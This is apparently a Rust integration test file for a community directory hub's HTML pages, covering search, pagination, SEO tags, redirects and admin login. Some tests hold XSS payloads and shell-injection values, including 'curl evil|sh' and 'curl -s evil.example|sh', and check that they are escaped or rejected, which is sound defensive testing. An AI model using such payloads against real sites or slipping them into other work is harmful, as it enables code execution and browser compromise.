//! The hub's pages as a browser without JavaScript, a search engine and an attacker get them.

use goop::config::superhub::Policy;
use reqwest::redirect;
use reqwest::{Client, Method, StatusCode};
use serde_json::{Value, json};

use super::hub::{Hub, PASSWORD, options};

async fn page(hub: &Hub, path: &str) -> (StatusCode, String) {
    let answer = hub.ask(Method::GET, path).header("accept", "text/html").send().await.unwrap();
    assert_eq!(answer.headers()["content-type"], "text/html; charset=utf-8", "{path}");
    (answer.status(), answer.text().await.unwrap())
}

async fn shown(hub: &Hub, path: &str) -> String {
    let (status, text) = page(hub, path).await;
    assert_eq!(status, 200, "{path}: {text}");
    text
}

fn listing(name: &str, more: Value) -> Value {
    let mut listing = json!({ "community": name, "rendezvous": "https://rv.example/c/x", "type": "open" });
    listing.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
    listing
}

async fn three(hub: &Hub) {
    hub.list(listing("Chess Club", json!({ "tags": ["chess", "games"], "lang": "en", "description": "Pawns & kings", "members": 23 })))
        .await;
    hub.list(listing("Schachfreunde", json!({ "tags": ["chess"], "lang": "de", "type": "application" }))).await;
    hub.list(listing("Choir", json!({ "lang": "de", "type": "invite-only", "paid": true }))).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn without_a_script_one_searches_browses_and_turns_pages() {
    let folder = tempfile::tempdir().unwrap();
    let hub = Hub::start(folder.path());
    three(&hub).await;
    let all = shown(&hub, "/directory").await;
    for words in [
        "Chess Club",
        "Schachfreunde",
        "Choir",
        "Pawns &#38; kings",
        "without an account or an invitation",
        "It costs money",
        "23 members",
        "not checked yet",
        "3 communities.",
        "Deutsch",
        "?tag=chess",
        "?lang=de",
        "/join#at=https%3A%2F%2Frv.example%2Fc%2Fx",
    ] {
        assert!(all.contains(words), "{words}");
    }
    let has = async |path: &str, yes: &[&str], no: &[&str]| {
        let text = shown(&hub, path).await;
        let cards: Vec<&str> = text.split("<li class=\"card listing\">").skip(1).collect();
        assert_eq!(cards.len(), yes.len(), "{path}");
        for (names, there) in [(yes, true), (no, false)] {
            assert!(names.iter().all(|name| cards.iter().any(|card| card.contains(name)) == there), "{path}: {names:?}");
        }
    };
    has("/directory?q=ches", &["Chess Club", "Schachfreunde"], &["Choir"]).await;
    has("/directory?tag=games", &["Chess Club"], &["Choir"]).await;
    has("/directory?lang=de", &["Schachfreunde", "Choir"], &["Chess Club"]).await;
    has("/directory?type=invite-only", &["Choir"], &["Schachfreunde"]).await;
    has("/directory?health=online", &[], &["Choir"]).await;
    for number in 0..25 {
        hub.list(listing(&format!("Later {number}"), json!({}))).await;
    }
    let first = shown(&hub, "/directory").await;
    let next = first.split("rel=\"next\" href=\"").nth(1).unwrap().split('"').next().unwrap().replace("&#38;", "&");
    assert!(first.contains("Later 24") && !first.contains("Chess Club") && first.contains("The first 20; there are more."));
    has(&next, &["Later 4", "Later 3", "Later 2", "Later 1", "Later 0", "Choir", "Schachfreunde", "Chess Club"], &["Later 5<"]).await;
    hub.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn search_engines_find_each_community_at_one_address_of_its_own() {
    let folder = tempfile::tempdir().unwrap();
    let mut options = options(folder.path());
    options.http.external_url = Some(goop::config::base_url::BaseUrl::parse("https://hub.example/goop/").unwrap());
    let hub = Hub::with(options, PASSWORD);
    let url = hub.url.clone();
    let made = Client::new().post(format!("{}/api/v1/communities", hub.local)).basic_auth("admin", Some(PASSWORD));
    let made: Value =
        made.json(&listing("Chess Club", json!({ "description": "Pawns & kings" }))).send().await.unwrap().json().await.unwrap();
    let get = async |path: &str| {
        let answer = Client::new().get(format!("{}{path}", hub.local)).header("accept", "text/html").send().await.unwrap();
        (answer.status().as_u16(), answer.text().await.unwrap())
    };
    let id = made["id"].as_str().unwrap();
    let (_, own) = get(&format!("/directory/{id}")).await;
    assert_eq!(url, "https://hub.example/goop");
    for words in [
        format!("<link rel=\"canonical\" href=\"https://hub.example/goop/directory/{id}\">"),
        "<title>Chess Club – hub.example</title>".into(),
        "<meta name=\"description\" content=\"Pawns &#38; kings\">".into(),
        "https://hub.example/goop/join#at=https%3A%2F%2Frv.example%2Fc%2Fx".into(),
        "<svg class=\"qr\"".into(),
        "href=\"/goop/static/goop.css\"".into(),
    ] {
        assert!(own.contains(&words), "{words}");
    }
    assert!(!own.contains("noindex"));
    let (_, all) = get("/directory").await;
    assert!(
        all.contains("href=\"https://hub.example/goop/directory\"")
            && all.contains(&format!("/goop/directory/{id}"))
            && !all.contains("noindex")
    );
    assert!(get("/directory?q=chess").await.1.contains("noindex"), "not every search of everybody");
    assert!(get("/directory?tag=buy-my-pills").await.1.contains("noindex"), "nor words of which somebody made a link");
    assert!(!get("/directory?type=open").await.1.contains("noindex"));
    for (path, status) in
        [("/directory/aaaaaaaaaaaaaaaaaaaaaaaaaa", 404), ("/directory/x", 404), ("/directory?type=x", 400), ("/directory?q=%2a", 400)]
    {
        let (got, text) = get(path).await;
        assert!(got == status && text.contains("<!doctype html>"), "{path}: {got}");
    }
    let remove = Client::new().delete(format!("{}/api/v1/communities/{id}", hub.local)).basic_auth("admin", Some(PASSWORD));
    assert_eq!(remove.send().await.unwrap().status(), 204);
    assert_eq!(get(&format!("/directory/{id}")).await.0, 410, "search engines forget it");
    hub.close().await;
}

/// THREATS 23. A browser is asked by tests/directory_browser.
#[tokio::test(flavor = "multi_thread")]
async fn attack_what_strangers_write_ends_no_tag_and_no_attribute() {
    let folder = tempfile::tempdir().unwrap();
    let hub = Hub::start(folder.path());
    let marks = async |text: &str| {
        let made = hub.list(listing(text, json!({ "description": text }))).await;
        let id = made["id"].as_str().unwrap().to_owned();
        let words: String = text.bytes().map(|byte| format!("%{byte:02x}")).collect();
        let report = json!({ "reason": "other", "words": text, "contact": text });
        let reported = hub.ask(Method::POST, &format!("/api/v1/communities/{id}/report")).json(&report).send().await.unwrap();
        let mut all = Vec::new();
        for path in
            [format!("/directory/{id}"), format!("/directory?q={words}"), "/admin/directory".into(), format!("/admin/directory/{id}")]
        {
            let answer = hub.as_admin(Method::GET, &path).send().await.unwrap();
            let page = answer.text().await.unwrap();
            assert!(text == "x" || !page.contains(text), "{path}");
            all.push(["<", ">", "\"", "'"].map(|mark| page.matches(mark).count()));
        }
        assert_eq!(reported.status(), 202);
        assert_eq!(hub.as_admin(Method::DELETE, &format!("/api/v1/communities/{id}")).send().await.unwrap().status(), 204);
        all.truncate(2);
        all
    };
    let plain = marks("x").await;
    for payload in ["<script>alert(1)</script> x", "\"><img src=x onerror=alert(1)>", "' autofocus onfocus='alert(1)"] {
        assert_eq!(marks(payload).await, plain, "{payload}");
    }
    hub.close().await;
}

/// THREATS 23: what has a button that copies it is typed into a shell.
#[tokio::test(flavor = "multi_thread")]
async fn attack_nobody_puts_a_command_behind_the_hub_s_buttons() {
    let folder = tempfile::tempdir().unwrap();
    let hub = Hub::start(folder.path());
    for place in ["x;id;:8787", "x$(id):8787", "--set=viewer=x:80", "-x:80", "https://x.example/;curl evil|sh", "https://x.example/$(id)"] {
        let made = hub.as_admin(Method::POST, "/api/v1/communities").json(&listing("Chess", json!({ "rendezvous": place })));
        assert_eq!(made.send().await.unwrap().status(), 400, "{place}");
    }
    let made = hub.list(listing("Chess Club", json!({}))).await;
    let page = shown(&hub, &format!("/directory/{}", made["id"].as_str().unwrap())).await;
    assert!(page.contains("<code>goop join 'goop:join?at=https%3A%2F%2Frv.example%2Fc%2Fx'</code>"));
    let asked = shown(&hub, "/directory?q=chess%3B+curl+-s+evil.example%7Csh+%23").await;
    assert!(asked.contains("<code>goop search chess</code>") && asked.matches("<code>goop").count() == 1);
    hub.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn the_rules_of_the_hub_are_said_in_plain_words() {
    for (policy, words) in
        [(Policy::Closed, "operator of this hub decides"), (Policy::Approve, "its operator looks at each"), (Policy::Open, "may list it")]
    {
        let folder = tempfile::tempdir().unwrap();
        let mut options = options(folder.path());
        options.registration = policy;
        let hub = Hub::with(options, PASSWORD);
        assert!(shown(&hub, "/directory").await.contains(words), "{policy:?}");
        hub.close().await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_link_s_page_is_the_same_for_every_link_and_sends_nobody_anywhere() {
    let folder = tempfile::tempdir().unwrap();
    let hub = Hub::start(folder.path());
    let plain = shown(&hub, "/join").await;
    assert!(plain.contains("goop join") && plain.contains("address of this page"), "without a script it says what to do");
    for query in ["?at=https://evil.example", "?to=//evil.example", "?next=javascript:alert(1)"] {
        let answer = Client::builder().redirect(redirect::Policy::none()).build().unwrap().get(format!("{}/join{query}", hub.url));
        let answer = answer.header("accept", "text/html").send().await.unwrap();
        assert_eq!((answer.status(), answer.headers().get("location")), (StatusCode::OK, None));
        assert_eq!(answer.text().await.unwrap(), plain, "{query}");
    }
    hub.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn alone_the_front_door_leads_to_the_directory_and_the_operator_s_to_a_form() {
    let folder = tempfile::tempdir().unwrap();
    let hub = Hub::start(folder.path());
    three(&hub).await;
    assert!(shown(&hub, "/").await.contains("Schachfreunde"));
    let (status, form) = page(&hub, "/admin").await;
    assert!(status == 401 && form.contains("id=\"login\""), "{form}");
    let log_in = |password: &str| hub.ask(Method::POST, "/api/v1/admin/session").json(&json!({ "password": password })).send();
    assert_eq!(log_in("wrong").await.unwrap().status(), 403);
    let session = log_in(PASSWORD).await.unwrap();
    let cookie = session.headers()["set-cookie"].to_str().unwrap().split(';').next().unwrap().to_owned();
    let operating = hub.ask(Method::GET, "/admin/directory").header("cookie", &cookie).send().await.unwrap();
    assert!(operating.status() == 200 && operating.text().await.unwrap().contains("Who changed what"));
    let out = hub.ask(Method::DELETE, "/api/v1/admin/session").header("cookie", &cookie).send().await.unwrap();
    assert_eq!(out.status(), 204);
    assert_eq!(hub.ask(Method::GET, "/admin/directory").header("cookie", &cookie).send().await.unwrap().status(), 401);
    hub.close().await;
}
